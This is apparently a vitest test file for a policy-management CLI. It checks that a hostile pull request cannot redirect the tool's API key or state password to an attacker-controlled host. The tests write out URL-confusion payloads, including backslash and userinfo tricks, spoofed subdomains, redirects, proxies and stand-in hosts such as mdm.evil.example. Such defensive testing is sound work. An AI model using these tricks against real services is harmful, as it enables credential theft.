/** A pull request that wants the API key: it may change every file, and no variable of the job. */
import { describe, expect, it } from 'vitest';
import { configFor, makeHost, POLICY } from '../hostile/host.ts';
import { expectRefused, job, key, listen, wanted } from './hostile-job.ts';
import { findLeaks } from './leaks.ts';

/** With a user that has to be looked up, so that a plan needs the service too. */
const lookedUp = POLICY.replace('devices: [1]', 'users: [anna]');

describe('the key goes only where the job says', () => {
  const reach = (url: string): string => new URL(url).port;
  const addresses: Record<string, (evil: string, good: string) => string> = {
    'another origin': (evil) => evil,
    'another port': (evil) => `http://127.0.0.1:${reach(evil)}`,
    'another name of the same machine': (_evil, good) => `http://localhost:${reach(good)}`,
    'the right origin as a path': (evil, good) => `${evil}/${new URL(good).host}`,
    'the right origin as a subdomain': (evil, good) =>
      `http://${new URL(good).hostname}.localhost:${reach(evil)}`,
    'a backslash': (evil, good) => `${evil}\\\\@${new URL(good).host}`,
  };
  it.each(Object.entries(addresses))('not to %s', async (_name, address) => {
    const [evil, good] = [await listen(), await listen()];
    const host = makeHost({
      'edict.yaml': configFor(address(evil.url, good.url)),
      'policies/a.yaml': lookedUp,
    });
    // With a backslash it is no address at all: which part is the host depends on who reads it.
    await expectRefused(host, [evil, good], /EDICT_ALLOWED_ORIGINS does not list|this is not a/, {
      EDICT_ALLOWED_ORIGINS: `https://mdm.example.com, ${good.url}`,
    });
  });

  it.each(['', ' ', ','])('and nowhere where the list is %j', async (list) => {
    const evil = await listen();
    const host = makeHost({ 'edict.yaml': configFor(evil.url), 'policies/a.yaml': lookedUp });
    await expectRefused(host, [evil], /EDICT_ALLOWED_ORIGINS/, { EDICT_ALLOWED_ORIGINS: list });
  });

  it('not with a user name in the address that looks like the host', async () => {
    const evil = await listen();
    const host = makeHost({
      'edict.yaml': configFor(evil.url.replace('//', '//mdm.example.com@')),
      'policies/a.yaml': lookedUp,
    });
    await expectRefused(host, [evil], /user name or password/, {
      EDICT_ALLOWED_ORIGINS: 'https://mdm.example.com',
    });
  });

  it('the negative control: it goes to an origin that is listed, and without a list', async () => {
    for (const allowed of [true, false]) {
      const good = await listen();
      const host = makeHost({ 'edict.yaml': configFor(good.url), 'policies/a.yaml': POLICY });
      const env = { ...job, ...(allowed ? { EDICT_ALLOWED_ORIGINS: `https://x.example,${good.url}/` } : {}) };
      expect((await host.edict(['apply', '--auto-approve'], { env })).code).toBe(0);
      expect(findLeaks({ received: good.received.join() }, [key])).not.toEqual([]);
    }
  });

  /** Whoever `base_url` names, this is who hears it. */
  const throughProxy = (proxy: { readonly url: string }) => ({ HTTP_PROXY: proxy.url });
  const elsewhere = (more = '') => ({
    'edict.yaml': configFor('http://mdm.evil.example', `    allow_http: true\n${more}`),
    'policies/a.yaml': lookedUp,
  });

  it('and in CI nowhere beyond this machine where the job lists nothing', async () => {
    const evil = await listen();
    const env = { CI: 'true', ...throughProxy(evil) };
    await expectRefused(
      makeHost(elsewhere()),
      [evil],
      /EDICT_ALLOWED_ORIGINS is not set.*evil\.example/s,
      env,
    );
  });

  it('the negative control: it goes there outside of CI, and in CI where the job lists it', async () => {
    const origin = 'http://mdm.evil.example';
    const jobs: Record<string, string>[] = [{}, { CI: 'true', EDICT_ALLOWED_ORIGINS: origin }];
    for (const env of jobs) {
      const heard = await listen((response) => response.writeHead(401).end());
      const host = makeHost(elsewhere());
      await host.edict(['users', 'list'], { env: { ...job, ...env, ...throughProxy(heard) } });
      expect(findLeaks({ received: heard.received.join() }, [key])).not.toEqual([]);
    }
  });

  it('nor do credentials of a state', async () => {
    const state =
      '    state: { backend: http, address: "http://states.evil.example/s", username: u, password: { env: EDICT_STATE_PASSWORD } }\n';
    const password = {
      label: 'password',
      value: 'the-password-of-the-state',
      core: 'the-password-of-the-state',
    };
    const basic = Buffer.from(`u:${password.value}`).toString('base64');
    for (const ci of ['true', 'false']) {
      const evil = await listen((response) => response.writeHead(404).end());
      const env = { ...job, ...throughProxy(evil), CI: ci, EDICT_STATE_PASSWORD: password.value };
      const ran = await makeHost(elsewhere(state)).edict(['plan', '--without-secrets'], { env });
      expect(findLeaks({ said: ran.said }, [password])).toEqual([]);
      // The control: elsewhere it reads the state there.
      if (ci === 'false') expect(evil.received.join()).toContain(basic);
      else expect([ran.code, evil.received]).toEqual([3, []]);
      if (ci === 'true') expect(ran.err).toContain('EDICT_ALLOWED_ORIGINS: http://states.evil.example');
    }
  });

  it.each([301, 302, 303, 307, 308])('not after a redirect with %i', async (status) => {
    const evil = await listen();
    const good = await listen((response) =>
      response.writeHead(status, { location: `${evil.url}/api/v1/policy/` }).end(),
    );
    const host = makeHost({ 'edict.yaml': configFor(good.url), 'policies/a.yaml': POLICY });
    const ran = await host.edict(['apply', '--auto-approve'], {
      env: { ...job, EDICT_ALLOWED_ORIGINS: good.url },
    });
    expect([1, 4]).toContain(ran.code);
    expect(good.received).toHaveLength(1);
    expect(evil.received).toEqual([]);
    expect(findLeaks({ said: ran.said }, wanted)).toEqual([]);
  });

  it('not from a variable of the job', async () => {
    for (const name of ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN', 'edict_api_key', 'XEDICT_API_KEY', 'PATH']) {
      const evil = await listen();
      const host = makeHost({
        'edict.yaml': configFor(evil.url, `    api_key: { env: ${name} }\n`),
        'policies/a.yaml': POLICY,
      });
      await expectRefused(host, [evil], /has to begin with EDICT_API_KEY/);
    }
  });
});
